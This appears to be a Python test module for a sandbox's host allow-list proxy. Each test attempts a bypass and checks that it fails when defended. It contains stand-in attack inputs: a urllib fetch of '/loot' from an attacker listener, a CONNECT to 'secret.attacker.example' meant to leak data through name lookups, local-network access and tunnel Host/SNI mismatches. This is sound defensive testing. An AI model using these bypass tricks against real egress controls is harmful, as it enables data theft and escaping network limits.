"""Ways around an allow-list of hosts."""

from __future__ import annotations

import contextlib
import os
import socket
import ssl
from pathlib import Path

import pytest

from aci_tools.gate.allow import AllowList, Rule
from tests.aci_tools.gate import conftest as gates
from tests.aci_tools.gate.conftest import GateOpener, Server, exchange, trusting
from tests.security.conftest import Listener, Opening, fenced_kind

server, tls_server, open_gate = gates.server, gates.tls_server, gates.open_gate


@pytest.fixture
def looked_up(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """The names that were looked up, without a question to anyone."""
    names: list[str] = []

    def look_up(host: str, *given: object, **more: object) -> list[object]:
        names.append(str(host))
        raise socket.gaierror(socket.EAI_NONAME, "Name or service not known")

    monkeypatch.setattr(socket, "getaddrinfo", look_up)
    return names


def test_without_an_allow_list_nothing_is_reached(
    project: Path, attacker: Listener, opening: Opening, defended: bool
) -> None:
    sandbox = opening(fenced_kind(), project, network=not defended)
    fetch = f"import urllib.request; urllib.request.urlopen('http://{attacker.address}/loot', timeout=5)"
    sandbox.run(f'python3 -c "{fetch}"')
    assert (attacker.asked == ["/loot"]) is not defended


def test_another_host_is_not_reached_around_the_gate(
    project: Path, attacker: Listener, opening: Opening, defended: bool
) -> None:
    wanted = {"allow_hosts": ("example.org",)} if defended else {"network": True}
    sandbox = opening(fenced_kind(), project, **wanted)
    fetch = f"import urllib.request as u; u.build_opener(u.ProxyHandler({{}})).open('http://{attacker.address}/loot')"
    sandbox.run(f'python3 -c "{fetch}"')
    assert (attacker.asked == ["/loot"]) is not defended


def test_a_name_that_is_looked_up_carries_no_secret_out(
    open_gate: GateOpener, looked_up: list[str], monkeypatch: pytest.MonkeyPatch, defended: bool
) -> None:
    _, port = open_gate("example.org")
    if not defended:
        monkeypatch.setattr(AllowList, "rule", lambda self, host, port: Rule(host, port=port))
    exchange_at(port, b"CONNECT secret.attacker.example:443 HTTP/1.1\r\nHost: x\r\n\r\n")
    assert ("secret.attacker.example" in looked_up) is not defended


def test_an_allowed_name_does_not_open_the_users_own_network(
    open_gate: GateOpener, server: Server, monkeypatch: pytest.MonkeyPatch, defended: bool
) -> None:
    monkeypatch.setattr("aci_tools.gate.allow.USUAL_PORTS", frozenset({server.port}))
    if not defended:
        monkeypatch.setattr(AllowList, "check_address", staticmethod(lambda rule, host, address: None))
    _, port = open_gate("localhost")
    request = f"GET http://localhost:{server.port}/ HTTP/1.1\r\nHost: localhost:{server.port}\r\n\r\n"
    assert exchange(port, request.encode()).startswith(b"HTTP/1.1 200 ") is not defended
    assert bool(server.seen) is not defended


def test_a_tunnel_does_not_lead_to_another_host_of_the_same_server(
    open_gate: GateOpener, tls_server: Server, monkeypatch: pytest.MonkeyPatch, defended: bool
) -> None:
    if not defended:
        monkeypatch.setattr("aci_tools.gate.proxy.server_name", lambda greeting: "localhost" if greeting else None)
    _, port = open_gate(f"localhost:{tls_server.port}")
    with socket.create_connection(("127.0.0.1", port), timeout=20) as connection:
        connection.sendall(f"CONNECT localhost:{tls_server.port} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
        assert connection.recv(1 << 16).startswith(b"HTTP/1.1 200 ")
        try:
            with trusting().wrap_socket(connection, server_hostname="other.localhost") as secured:
                secured.sendall(b"GET /loot HTTP/1.1\r\nHost: other.localhost\r\nConnection: close\r\n\r\n")
                secured.recv(1 << 16)
        except (ssl.SSLError, ConnectionError):
            assert defended
    assert bool(tls_server.seen) is not defended


def test_a_tunnel_carries_nothing_that_cannot_be_checked(
    open_gate: GateOpener, server: Server, monkeypatch: pytest.MonkeyPatch, defended: bool
) -> None:
    if not defended:
        monkeypatch.setattr("aci_tools.gate.proxy.server_name", lambda greeting: "localhost" if greeting else None)
    _, port = open_gate(f"localhost:{server.port}")
    with socket.create_connection(("127.0.0.1", port), timeout=20) as connection:
        connection.sendall(f"CONNECT localhost:{server.port} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
        assert connection.recv(1 << 16).startswith(b"HTTP/1.1 200 ")
        connection.sendall(b"GET /loot HTTP/1.1\r\nHost: other.example\r\nConnection: close\r\n\r\n")
        while connection.recv(1 << 16):
            pass
    assert bool(server.seen) is not defended


def test_connections_do_not_use_up_the_open_files_of_the_runtime(
    open_gate: GateOpener, monkeypatch: pytest.MonkeyPatch, defended: bool
) -> None:
    if not defended:
        monkeypatch.setattr("aci_tools.gate.gate.MOST_CONNECTIONS", 10_000)
    before = len(os.listdir("/proc/self/fd"))
    gate, port = open_gate("example.org")
    with contextlib.ExitStack() as stack:
        clients = [stack.enter_context(socket.create_connection(("127.0.0.1", port))) for _ in range(150)]
        # The last one is answered, or turned away, after all before it were.
        clients[-1].sendall(b"nonsense\r\n\r\n")
        with contextlib.suppress(ConnectionError):
            clients[-1].recv(1 << 16)
        theirs = len(os.listdir("/proc/self/fd")) - before - len(clients)
    assert (theirs > 145) is not defended
    assert bool(gate.refused()) is defended


def exchange_at(port: int, sent: bytes) -> bytes:
    """As :func:`exchange`, where no name can be looked up."""
    with socket.socket() as connection:
        connection.settimeout(20)
        connection.connect(("127.0.0.1", port))
        connection.sendall(sent)
        return connection.recv(1 << 16)
